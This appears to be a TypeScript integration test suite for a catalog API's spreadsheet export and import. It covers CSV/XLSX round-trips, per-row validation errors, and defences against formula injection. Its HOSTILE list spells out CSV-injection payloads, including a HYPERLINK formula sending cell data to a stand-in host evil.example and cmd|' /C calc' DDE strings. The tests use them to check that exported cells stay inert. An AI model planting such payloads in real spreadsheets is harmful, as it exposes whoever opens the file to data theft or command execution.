// The catalog as agencies keep it, in spreadsheets, over HTTP against real Temporal and PostgreSQL: export as
// CSV and XLSX, edit, import into an adjustment (only the rows that differ become changes), per-row errors.
import { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
// exceljs's own zip reader, to see the XML a spreadsheet program reads.
import JSZip from 'jszip';
import { sampleEntryContent } from '../db/seed';
import { entryRow, rowChange } from '../domain/catalog-sheet';
import type { EntryContent } from '../domain/catalog';
import { cellText, inertCell } from '../domain/spreadsheet';
import type { Actor } from '../domain/types';
import { expectProblem, startApi, type Api } from './api-helpers';
import { eventually, startHarness, type Harness } from './helpers';

let h: Harness;
let api: Api;
beforeAll(async () => {
  h = await startHarness('sheets');
  api = await startApi(h);
});
afterAll(async () => {
  await api.app.close();
  await h.close();
});

const officer = (): Actor => ({ sub: 'sheet-officer', org: h.city.agencies.market, roles: ['agency_applicant'] });
const reviewer = (): Actor => ({ sub: 'sheet-reviewer', org: h.city.cityAuthority, roles: ['authority_reviewer'] });
const get = (actor: Actor, url: string) => api.app.inject({ method: 'GET', url, headers: api.as(actor) });
const post = (actor: Actor, url: string, payload: object) => api.app.inject({ method: 'POST', url, payload, headers: api.as(actor) });

/** A CSV as rows of cells, read as a spreadsheet program would. */
async function csvRows(text: string): Promise<string[][]> {
  const ws = await new ExcelJS.Workbook().csv.read(Readable.from(Buffer.from(text)), { map: (v: unknown) => v });
  const out: string[][] = [];
  ws.eachRow((row) => out.push((row.values as string[]).slice(1).map((v) => v ?? '')));
  return out;
}
const toCsv = (rows: string[][]) => rows.map((r) => r.map((v) => (/[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v)).join(',')).join('\r\n');
const importBody = (format: 'csv' | 'xlsx', file: Buffer, extra: object = {}) => ({
  ground: 'correction',
  justification: '按表格更新目录',
  format,
  file: file.toString('base64'),
  ...extra,
});

test('an agency exports its catalog, edits a row and adds one, and the import applies for exactly those changes', async () => {
  const res = await get(officer(), `/catalog/export?provider=${h.city.agencies.market}`);
  expect(res.statusCode).toBe(200);
  expect(res.headers['content-type']).toContain('text/csv');
  expect(res.body.charCodeAt(0)).toBe(0xfeff);
  const rows = await csvRows(res.body);
  const header = rows[0];
  expect(header.slice(0, 4)).toEqual(['id', 'version', 'action', 'title']);
  const col = (name: string) => header.indexOf(name);
  const registry = rows.find((r) => r[col('id')] === h.city.entries.unconditional)!;
  expect(registry[col('fields')].split('\n')[0]).toBe('uscc | uscc | organisation | ');
  expect(rows).toHaveLength(3); // the header and the market agency's two entries

  registry[col('description')] = '含历史变更记录, "引号" 与逗号';
  const added = header.map(
    (c) =>
      ({
        title: '企业年报信息',
        fields: 'uscc | uscc | organisation | 统一社会信用代码\nyear | number |  | 年度',
        field_labels: '统一社会信用代码\n年度',
        form: 'table',
        update_frequency: '每年',
        share_attribute: 'UNCONDITIONAL',
        open_attribute: 'NONE',
        open_basis: 'law | 中华人民共和国个人信息保护法 | 第十三条',
        priority_open: 'false',
      })[c] ?? '',
  );
  const file = Buffer.from(toCsv([...rows, added]));
  const dry = await post(officer(), '/catalog/adjustments/import', importBody('csv', file, { dryRun: true }));
  expect(dry.json()).toEqual({ changes: 2, added: 1, changed: 1, removed: 0, unchanged: 1 });

  const imported = await post(officer(), '/catalog/adjustments/import', importBody('csv', file));
  expect(imported.statusCode).toBe(201);
  const req = imported.json();
  expect(req.payload.changes.map((c: { op: string }) => c.op)).toEqual(['change', 'add']);
  const task = await eventually(async () =>
    ((await get(reviewer(), '/tasks?kind=CATALOG_ADJUSTMENT_CITY_REVIEW')).json().items as { id: string; requestId: string }[]).find(
      (t) => t.requestId === req.id,
    ),
  );
  expect((await post(reviewer(), `/tasks/${task.id}/complete`, { decision: 'APPROVE' })).json().status).toBe('approved');
  expect((await get(officer(), `/catalog/${h.city.entries.unconditional}`)).json()).toMatchObject({ version: 2, description: '含历史变更记录, "引号" 与逗号' });
  const newEntry = (await get(officer(), `/catalog/${req.id}-2`)).json();
  expect(newEntry).toMatchObject({
    title: '企业年报信息',
    fields: [
      { name: 'uscc', label: '统一社会信用代码', type: 'uscc', identifies: 'organisation' },
      { name: 'year', label: '年度', type: 'number', identifies: null },
    ],
  });

  // The same file again: the rows now match the catalog except the stale version; nothing is lost silently.
  const again = await post(officer(), '/catalog/adjustments/import', importBody('csv', file, { dryRun: true }));
  expectProblem(again, 400, `body.file.rows.${rows.indexOf(registry) + 1}.baseVersion`, 'current version');
});

test('XLSX round-trips: export, edit in the workbook, import', async () => {
  const res = await api.app.inject({ method: 'GET', url: `/catalog/export?format=xlsx&provider=${h.city.agencies.health}`, headers: api.as(officer()) });
  expect(res.statusCode).toBe(200);
  expect(res.headers['content-type']).toContain('spreadsheetml');
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
  const ws = wb.worksheets[0];
  expect(ws.rowCount).toBe(2);
  const header = (ws.getRow(1).values as string[]).slice(1);
  const row = ws.getRow(2);
  expect(row.getCell(header.indexOf('id') + 1).text).toBe(h.city.entries.conditional);
  row.getCell(header.indexOf('update_frequency') + 1).value = '每周';
  const edited = Buffer.from(await wb.xlsx.writeBuffer());
  const health: Actor = { sub: 'health-officer', org: h.city.agencies.health, roles: ['agency_applicant'] };
  const dry = await post(health, '/catalog/adjustments/import', importBody('xlsx', edited, { dryRun: true }));
  expect(dry.json()).toEqual({ changes: 1, added: 0, changed: 1, removed: 0, unchanged: 0 });
});

test('every row’s problems come back at once, naming the row, the column, the rule and the article; nothing starts', async () => {
  const header = [
    'title',
    'fields',
    'field_labels',
    'form',
    'update_frequency',
    'share_attribute',
    'share_reasons',
    'open_attribute',
    'open_basis',
    'priority_open',
  ];
  const ok = ['好的目录', 'a | string |  | ', '甲', 'table', '每月', 'UNCONDITIONAL', '', 'NONE', 'law | 某法 | 第一条', 'false'];
  const file = Buffer.from(
    toCsv([
      header,
      ok,
      ['坏的属性', 'a | string |  | ', '甲', 'table', '每月', 'SOMETIMES', '', 'NONE', 'law | 某法 | 第一条', 'maybe'],
      ['有条件无理由', 'a | text |  | ', '甲', 'table', '每月', 'CONDITIONAL', '', 'NONE', 'rules | 某规章 | 第一条', 'false'],
    ]),
  );
  const res = await post(officer(), '/catalog/adjustments/import', importBody('csv', file));
  const body = expectProblem(res, 400);
  const fields = (body.errors as { field: string; article?: string }[]).map((e) => [e.field, e.article ?? null]);
  expect(fields).toEqual([
    ['body.file.rows.3.share_attribute', null],
    ['body.file.rows.3.priority_open', null],
    ['body.file.rows.4.fields', null],
  ]);
  // Once the rows read, the catalog's rules: row 4's conditional sharing without reasons, its 规章-only NONE opening.
  const fixed = Buffer.from(
    toCsv([header, ok, ['有条件无理由', 'a | string |  | ', '甲', 'table', '每月', 'CONDITIONAL', '', 'NONE', 'rules | 某规章 | 第一条', 'false']]),
  );
  const ruled = expectProblem(await post(officer(), '/catalog/adjustments/import', importBody('csv', fixed)), 400);
  expect((ruled.errors as { field: string; article: string }[]).map((e) => [e.field, e.article])).toEqual([
    ['body.file.rows.3.entry.share.reasons', 'Art. 13'],
    ['body.file.rows.3.entry.share.conditions', 'Art. 13'],
    ['body.file.rows.3.entry.open.basis', 'Art. 17'],
  ]);
  // Issue 24 §3: a row marking its entry 不予共享 on a 规章 alone, in a government department's catalog: its share_basis column.
  const lowNone = Buffer.from(
    toCsv([
      [...header, 'share_basis'],
      ['规章不予共享', 'a | string |  | ', '甲', 'table', '每月', 'NONE', '', 'NONE', 'law | 某法 | 第一条', 'false', 'rules | 某规章 | 第一条'],
    ]),
  );
  const low = (await post(officer(), '/catalog/adjustments/import', importBody('csv', lowNone, { preview: true }))).json();
  expect(
    low.errors.map((e: { row: number; column?: string; field: string; rule: string; article: string }) => [e.row, e.column, e.field, e.rule, e.article]),
  ).toEqual([[2, 'share_basis', 'rows.2.entry.share.basis', 'a provision of an accepted level', 'Art. 13']]);
  // A preview (the console's import) answers both at once: the rows that pass as their changes, and each problem against its row.
  const preview = await post(officer(), '/catalog/adjustments/import', importBody('csv', file, { preview: true }));
  expect(preview.statusCode).toBe(200);
  expect(preview.json().rows).toEqual([{ row: 2, change: { op: 'add', entry: expect.objectContaining({ title: '好的目录' }) } }]);
  expect(
    (preview.json().errors as { row: number; column?: string; field: string; rule: string }[]).map((e) => [e.row, e.column ?? null, e.field, e.rule]),
  ).toEqual([
    [3, 'share_attribute', 'rows.3.share_attribute', 'one of'],
    [3, 'priority_open', 'rows.3.priority_open', 'true or false'],
    [4, 'fields', 'rows.4.fields', 'name | type | identifies | description'],
  ]);
  const previewed = (await post(officer(), '/catalog/adjustments/import', importBody('csv', fixed, { preview: true }))).json();
  expect(previewed.rows.map((r: { row: number }) => r.row)).toEqual([2]);
  expect(previewed.errors.map((e: { row: number; field: string; article: string }) => [e.row, e.field, e.article])).toEqual([
    [3, 'rows.3.entry.share.reasons', 'Art. 13'],
    [3, 'rows.3.entry.share.conditions', 'Art. 13'],
    [3, 'rows.3.entry.open.basis', 'Art. 17'],
  ]);
  expectProblem(await post(officer(), '/catalog/adjustments/import', importBody('xlsx', Buffer.from('not a workbook'))), 400, 'body.file');
  expectProblem(await post(reviewer(), '/catalog/adjustments/import', importBody('csv', file)), 403);
  // The officer's one request is the import of the first test.
  expect((await get(officer(), '/requests?type=catalog_adjustment')).json().items).toHaveLength(1);
});

/** Text a spreadsheet program takes for a formula (OWASP's CSV injection), each as an approved entry's title. */
const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", '-2+3', "@SUM(1+1)*cmd|' /C calc'!A0", '\t=1+1', '\r=1+1'];
/** An entry hostile in its other cells too, beside text that must come back as it is (a phone number, quotes, CRs, controls, OOXML's escapes). */
const hostileContent = (): EntryContent => ({
  ...sampleEntryContent("'=已是文本的标题"),
  description: '第一行\r\n第二行 _x000D_ 与 _x005f_ 照原样,\u000b 控制符',
  fields: [
    { name: '=x', label: '=x', type: 'string', description: '-', identifies: null },
    { name: 'phone', label: '联系电话', type: 'string', description: '+86 633 8888888', identifies: null },
  ],
  useConditions: '+86 633 8888888',
  share: { attribute: 'CONDITIONAL', reasons: '@所有人', conditions: '=仅用于履职', basis: [] },
});
const formulaStart = /^[=+\-@\t\r]/;

test('a cell that could start a formula goes out behind a quote and comes back as its text; any other text is left alone', () => {
  for (const v of [...HOSTILE, '=1+1', "'=1+1", "''-1", '-5', '+8613800000000', '@']) {
    expect(inertCell(v)).toBe(`'${v}`);
    expect(cellText(inertCell(v))).toBe(v);
  }
  for (const v of ['日照市企业登记信息', '', "'引号开头", "''", 'a=b', ' =1', '\n=1']) {
    expect(inertCell(v)).toBe(v);
    expect(cellText(v)).toBe(v);
  }
  // A row of the sheet: every cell inert, and read back the entry it was.
  const content = hostileContent();
  const row = entryRow({ id: 'e-1', version: 3, content, shareStatus: 'published', openStatus: 'published' });
  expect(Object.values(row).filter((v) => formulaStart.test(v))).toEqual([]);
  expect(row).toMatchObject({
    title: "''=已是文本的标题",
    fields: "'=x | string |  | -\nphone | string |  | +86 633 8888888",
    use_conditions: "'+86 633 8888888",
  });
  expect(rowChange(row, 2)).toEqual({
    change: { op: 'change', entryId: 'e-1', baseVersion: 3, entry: content, shareStatus: 'published', openStatus: 'published' },
  });
  for (const title of HOSTILE)
    expect(rowChange(entryRow({ id: 'e-2', version: 1, content: { ...content, title }, shareStatus: 'published', openStatus: 'published' }), 2)).toMatchObject({
      change: { entry: { title } },
    });
});

test('approved entries with hostile titles export as CSV and XLSX with no cell a formula, and import back as the catalog has them', async () => {
  const officer: Actor = { sub: 'hostile-officer', org: h.city.agencies.resources, roles: ['agency_applicant'] };
  const contents = [...HOSTILE.map((title) => ({ ...sampleEntryContent(title), description: title })), hostileContent()];
  const submitted = await post(officer, '/catalog/adjustments', {
    ground: 'correction',
    justification: '表格导出的防护',
    changes: contents.map((entry) => ({ op: 'add', entry })),
  });
  expect(`${submitted.statusCode} ${submitted.body.slice(0, 300)}`).toMatch(/^201 /);
  const req = submitted.json();
  const task = await eventually(async () =>
    ((await get(reviewer(), '/tasks?kind=CATALOG_ADJUSTMENT_CITY_REVIEW')).json().items as { id: string; requestId: string }[]).find(
      (t) => t.requestId === req.id,
    ),
  );
  expect((await post(reviewer(), `/tasks/${task.id}/complete`, { decision: 'APPROVE' })).json().status).toBe('approved');
  const ids = contents.map((_, i) => `${req.id}-${i + 1}`);
  expect((await get(officer, `/catalog/${ids[0]}`)).json().title).toBe(HOSTILE[0]);
  const url = (format: string) => `/catalog/export?format=${format}&provider=${h.city.agencies.resources}`;

  // CSV: the raw text holds each hostile title behind its quote, and no cell a spreadsheet reads starts a formula.
  const csv = await get(officer, url('csv'));
  expect(csv.body).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")","'=HYPERLINK(""http://evil.example/?""&A1,""x"")",`);
  expect(csv.body).toContain(`,'-2+3,'-2+3,`);
  expect(csv.body).toContain(`,"'\r=1+1","'\r=1+1",`);
  const rows = await csvRows(csv.body);
  const col = (name: string) => rows[0].indexOf(name);
  for (const [i, id] of ids.entries()) expect(rows.find((r) => r[col('id')] === id)?.[col('title')]).toBe(`'${contents[i].title}`);
  expect(rows.flat().filter((c) => formulaStart.test(c))).toEqual([]);

  // XLSX: every cell an inline string (none a formula), the hostile titles behind their quotes.
  const xlsx = await get(officer, url('xlsx'));
  const xml = await (await JSZip.loadAsync(xlsx.rawPayload)).file('xl/worksheets/sheet1.xml')!.async('string');
  expect(xml).not.toMatch(/<f[ >]/);
  expect(xml).toContain('<is><r><t>&apos;=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;x&quot;)</t></r></is>');
  expect(xml).toContain('<is><r><t>&apos;_x000D_=1+1</t></r></is>');
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
  const ws = wb.worksheets[0];
  const header = (ws.getRow(1).values as string[]).slice(1);
  const cells: ExcelJS.Cell[] = [];
  ws.eachRow((row, n) => n > 1 && row.eachCell({ includeEmpty: true }, (c) => cells.push(c)));
  expect(cells.length).toBe(header.length * (ids.length + 1));
  expect(cells.filter((c) => c.type !== ExcelJS.ValueType.RichText || formulaStart.test(c.text))).toEqual([]);
  const titles: Record<string, string> = {};
  ws.eachRow((row, n) => n > 1 && (titles[row.getCell(header.indexOf('id') + 1).text] = row.getCell(header.indexOf('title') + 1).text));
  for (const [i, id] of ids.entries()) expect(titles[id]).toBe(`'${contents[i].title}`);

  // Each file read back is the catalog exactly (a title's quote kept, a CR no line feed): no row is a change.
  for (const [format, file] of [
    ['csv', Buffer.from(csv.body)],
    ['xlsx', xlsx.rawPayload],
  ] as const) {
    expect(expectProblem(await post(officer, '/catalog/adjustments/import', importBody(format, file, { dryRun: true })), 400).detail).toMatch(
      /at least one change/,
    );
  }
  // And as new entries (no id, no version), the import asks for each as it was.
  const hostileRows = rows.filter((r) => ids.includes(r[col('id')]));
  const asNew = Buffer.from(toCsv([rows[0], ...hostileRows.map((r) => r.map((c, j) => (j === col('id') || j === col('version') ? '' : c)))]));
  const imported = await post(officer, '/catalog/adjustments/import', importBody('csv', asNew));
  expect(`${imported.statusCode} ${imported.body.slice(0, 300)}`).toMatch(/^201 /);
  const asked = (imported.json().payload.changes as { entry: EntryContent }[]).map((c) => c.entry);
  for (const content of contents) expect(asked).toContainEqual(content);
});
